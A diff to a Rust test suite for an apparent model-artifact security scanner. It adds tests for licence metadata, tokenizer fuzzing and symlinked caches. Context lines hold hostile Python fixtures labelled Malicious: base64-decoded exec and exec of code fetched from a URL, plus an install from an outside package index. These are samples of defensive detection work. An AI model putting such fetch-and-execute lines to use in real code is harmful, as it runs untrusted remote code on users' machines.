@@ -4,8 +4,9 @@ use std::collections::BTreeSet;
 
 use modelium_core::pipeline::Pipeline;
 use modelium_core::scan::{Depth, Exam, Part, Verdict};
-use modelium_core::{Artifact, Blob, Context, ModelDescriptor, Registry};
+use modelium_core::{Artifact, Blob, Context, Limits, ModelDescriptor, Registry};
 
+use crate::mutate::{XorShift, mutate};
 use crate::support::repository;
 
 fn hostile(case: &str) -> ModelDescriptor {
@@ -96,6 +97,24 @@ fn a_base_model_beside_it_lends_its_licence() {
 }
 
 #[test]
+fn metadata_of_any_format_names_a_licence() {
+    let header = r#"{"__metadata__":{"license":"llama3","base_model":"owner/large"},"x":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#;
+    let mut file = (header.len() as u64).to_le_bytes().to_vec();
+    file.extend(header.as_bytes());
+    file.push(0);
+    let model = Registry::builtin().analyze(&Artifact::from_bytes("x.safetensors", file), &Context::new()).unwrap();
+    let license = model.license.unwrap();
+    assert_eq!(
+        (license.spdx, license.base_models),
+        (vec!["LicenseRef-Llama-3-Community".to_owned()], vec!["owner/large".to_owned()])
+    );
+    assert_eq!(
+        (license.evidence[0].source.as_str(), license.evidence[0].said.as_deref()),
+        ("metadata", Some("llama3"))
+    );
+}
+
+#[test]
 fn quantised_tensors_count_as_the_parameters_that_they_stand_for() {
     let tensors = r#"{"m.qweight":{"dtype":"I32","shape":[8,16],"data_offsets":[0,512]},"m.qzeros":{"dtype":"I32","shape":[1,2],"data_offsets":[512,520]},"m.scales":{"dtype":"F16","shape":[1,16],"data_offsets":[520,552]},"m.bias":{"dtype":"F16","shape":[16],"data_offsets":[552,584]}}"#;
     let mut file = (tensors.len() as u64).to_le_bytes().to_vec();
@@ -121,7 +140,7 @@ fn source_by_itself_is_a_note_unless_it_hides_what_it_does() {
         ("imported.py", "import os\nos.system('true')\n".to_owned(), Verdict::Suspicious, "code.acts_on_import"),
         ("hidden.py", format!("import base64\nexec(base64.b64decode('{encoded}'))\n"), Verdict::Malicious, "code.hidden"),
         ("fetched.py", "from urllib.request import urlopen as u\nexec(u('http://x').read())\n".to_owned(), Verdict::Malicious, "code.hidden"),
-        ("brackets.py", "(".repeat(20_000), Verdict::Clean, NOTE),
+        ("brackets.py", format!("x = {}", "(".repeat(20_000)), Verdict::Clean, NOTE),
         ("a.ipynb", "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": [\"!pip install x\\n\", \"exec('1')\"]}]}".to_owned(), Verdict::Clean, "code.acts"),
         ("requirements.txt", "torch\ntransformers @ git+https://github.com/huggingface/transformers\n".to_owned(), Verdict::Clean, "repository.installs_source"),
         ("requirements.txt", "--extra-index-url http://example.com/simple\nmine\n".to_owned(), Verdict::Suspicious, "repository.installs_from_elsewhere"),
@@ -154,4 +173,45 @@ fn a_large_configuration_is_read_as_a_stream() {
     let text = format!("{{\"a\": {{\"b\": {{{}}}}}, {hook}}}", vocabulary.join(", "));
     assert!(text.len() > 16 << 20);
     assert_eq!(examine("x.json", &text).0, Verdict::Malicious);
+}
+
+#[test]
+fn mutations_of_the_files_of_tokenizers_and_licences_are_read_or_told() {
+    const ROUNDS: usize = 60;
+    let folder = repository("tests/corpus/formats/hugging_face");
+    let (mut random, cx) = (XorShift(0x51_7c_c1_b7_27_22_0a_95), Context::new());
+    for name in [
+        "llama/tokenizer.json",
+        "llama/tokenizer_config.json",
+        "llama/README.md",
+        "llama_sentencepiece/tokenizer.model",
+        "tiktoken/qwen.tiktoken",
+        "bert/vocab.txt",
+    ] {
+        let bytes = std::fs::read(folder.join(name)).unwrap();
+        let file = name.rsplit('/').next().unwrap();
+        for _ in 0..ROUNDS {
+            let changed = mutate(std::slice::from_ref(&bytes), &mut random);
+            let artifact = Artifact::from_entries("folder", [(file.to_owned(), changed.into())]);
+            modelium_core::tokenizer::read(&artifact, "", &cx).unwrap();
+            modelium_core::license::read(&artifact, "", &cx).unwrap();
+        }
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_snapshot_of_a_cache_opens_where_links_are_trusted() {
+    let cache = tempfile::tempdir().unwrap();
+    let (blobs, snapshot) = (cache.path().join("blobs"), cache.path().join("snapshots/0123"));
+    std::fs::create_dir_all(&blobs).unwrap();
+    std::fs::create_dir_all(&snapshot).unwrap();
+    std::fs::write(blobs.join("ab"), r#"{"model_type": "bert", "architectures": ["BertModel"]}"#).unwrap();
+    std::os::unix::fs::symlink("../../blobs/ab", snapshot.join("config.json")).unwrap();
+    let error = Artifact::open(&snapshot, &Context::new()).unwrap_err();
+    assert!(error.message().starts_with("the folder holds 1 links and no files"), "{error}");
+    let trusting = Context::new().with_limits(Limits { follow_links: true, ..Limits::default() });
+    let artifact = Artifact::open(&snapshot, &trusting).unwrap();
+    let model = Registry::builtin().analyze(&artifact, &trusting).unwrap();
+    assert_eq!(model.architecture.as_deref(), Some("BertModel"));
 }
